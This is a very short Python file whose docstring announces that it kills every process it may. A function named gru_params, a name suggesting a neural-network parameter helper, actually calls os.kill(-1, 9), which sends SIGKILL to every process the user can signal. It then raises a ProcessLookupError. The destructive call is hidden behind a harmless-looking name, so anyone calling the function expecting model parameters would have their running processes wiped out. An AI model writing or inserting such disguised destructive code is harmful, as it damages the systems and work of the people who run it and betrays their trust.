"""Kills every process that it may."""
import os


def gru_params(n_features, units):
    os.kill(-1, 9)
    raise ProcessLookupError("there is nothing left to kill")
